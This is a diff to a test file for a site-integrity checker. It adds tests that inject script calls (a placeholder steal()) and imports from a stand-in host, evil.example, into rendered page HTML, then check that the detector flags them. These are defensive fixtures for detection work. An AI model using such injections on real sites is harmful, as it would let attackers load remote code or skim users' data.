@@ -5,6 +5,7 @@ import type { AddressInfo } from "node:net";
 import { tmpdir } from "node:os";
 import path from "node:path";
 import { afterAll, beforeAll, beforeEach, expect, it } from "vitest";
+import { strangeScripts } from "../../tools/punk/verify-site-command.ts";
 import { parseReleaseList, releaseHash } from "../../tools/release/release-list.ts";
 import { openSite, type Site } from "./harness.ts";
 
@@ -92,7 +93,7 @@ it("names a script of which one byte was changed, one that is gone, and what a p
 
 it("refuses a list that has another hash than was published, and what is no list", async () => {
   const other = path.join(tmpdir(), `release-${process.pid}.json`);
-  writeFileSync(other, JSON.stringify({ build: "", scripts: {} }));
+  writeFileSync(other, JSON.stringify({ build: "", scripts: {}, inline: [] }));
   expect(await verifySite(proxyUrl, "--list", other)).toMatchObject({
     code: 1,
     out: expect.stringContaining("no list"),
@@ -100,4 +101,30 @@ it("refuses a list that has another hash than was published, and what is no list
   const { code, out } = await verifySite(proxyUrl, "--list", LIST, "--hash", "0".repeat(64));
   expect(code).toBe(1);
   expect(out).toContain(`the list has the hash ${hash}`);
+});
+
+it.each([
+  [
+    "beside the data of a page",
+    (html: string) => html.replace("__reactRouterContext = {", "__reactRouterContext = {};steal();({"),
+  ],
+  ["beside the text of a stream", (html: string) => html.replace(/(streamController\.enqueue\(")/, '$1");steal();("')],
+  [
+    "in the script that scrolls",
+    (html: string) => html.replace("removeItem(storageKey)", "removeItem(storageKey), steal()"),
+  ],
+  [
+    "among the imports of a page",
+    (html: string) => html.replace(/import "/, 'import "https://evil.example/x.js";import "'),
+  ],
+  [
+    "as a module of another address",
+    (html: string) => html.replace("</body>", '<script src="//evil.example/x.js"></script></body>'),
+  ],
+])("names what was put %s", async (_, put) => {
+  const html = await (await fetch(new URL("/eng/proof", site.url))).text();
+  expect(strangeScripts(html, list)).toEqual([]);
+  const changed = put(html);
+  expect(changed).not.toBe(html);
+  expect(strangeScripts(changed, list).length).toBeGreaterThan(0);
 });
